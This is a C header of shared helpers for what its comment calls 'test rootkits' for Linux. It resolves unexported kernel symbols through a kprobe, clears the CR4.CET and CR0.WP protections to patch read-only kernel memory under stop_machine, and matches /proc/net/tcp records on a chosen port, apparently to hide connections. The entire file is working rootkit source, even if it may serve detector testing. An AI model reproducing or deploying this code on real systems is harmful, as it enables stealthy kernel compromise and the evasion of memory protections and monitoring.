/* SPDX-License-Identifier: GPL-2.0 */
/*
 * Helpers shared by the rk_* test rootkits: finding unexported symbols and
 * writing read-only kernel memory. scripts/build-kmods.sh copies this header
 * next to each module's sources.
 */
#ifndef RK_COMMON_H
#define RK_COMMON_H

#include <linux/kprobes.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <asm/sync_core.h>
#include <linux/seq_file.h>
#include <net/sock.h>

/*
 * Whether a /proc/net/tcp seq_file record `v` is a socket on `port` (local
 * or remote). Listener, established, request and timewait socks all start
 * with a struct sock_common.
 */
static bool __maybe_unused rk_sock_on_port(const void *v, int port)
{
	const struct sock_common *skc = v;

	return v != SEQ_START_TOKEN &&
	       (skc->skc_num == port || ntohs(skc->skc_dport) == port);
}

typedef unsigned long (*kln_t)(const char *name);
static kln_t kln;

static bool is_endbr64(unsigned long a)
{
	const u8 *p = (const u8 *)a;

	return p[0] == 0xf3 && p[1] == 0x0f && p[2] == 0x1e && p[3] == 0xfa;
}

/* kallsyms_lookup_name is not exported since 5.7: let a kprobe resolve it. */
static int __maybe_unused resolve_kln(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long a;
	int err;

	err = register_kprobe(&kp);
	if (err)
		return err;
	a = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	/* with IBT kprobes sit after the endbr64; call the real entry */
	if (is_endbr64(a - 4))
		a -= 4;
	kln = (kln_t)a;
	return 0;
}

/* One write of read-only memory; arrays of them end with len == 0. */
struct wp_patch {
	void *dst;
	const void *src;
	size_t len;
};

/*
 * stop_machine() callback: every other CPU spins with IRQs off while CR0.WP
 * is cleared by our own `mov %cr0` (native_write_cr0() pins WP).
 */
static int __maybe_unused wp_patch_cb(void *arg)
{
	struct wp_patch *p = arg;
	unsigned long cr0, cr4;

	cr4 = __read_cr4();
	/* CR0.WP cannot be cleared while CR4.CET is set (#GP) */
	if (cr4 & X86_CR4_CET)
		asm volatile("mov %0,%%cr4" : : "r"(cr4 & ~X86_CR4_CET) : "memory");
	cr0 = read_cr0();
	asm volatile("mov %0,%%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	for (; p->len; p++)
		memcpy(p->dst, p->src, p->len);
	asm volatile("mov %0,%%cr0" : : "r"(cr0) : "memory");
	if (cr4 & X86_CR4_CET)
		asm volatile("mov %0,%%cr4" : : "r"(cr4) : "memory");
	sync_core();
	return 0;
}

/* p: array terminated by an entry with len == 0 */
static int __maybe_unused wp_patch_all(struct wp_patch *p)
{
	return stop_machine(wp_patch_cb, p, NULL);
}

#endif
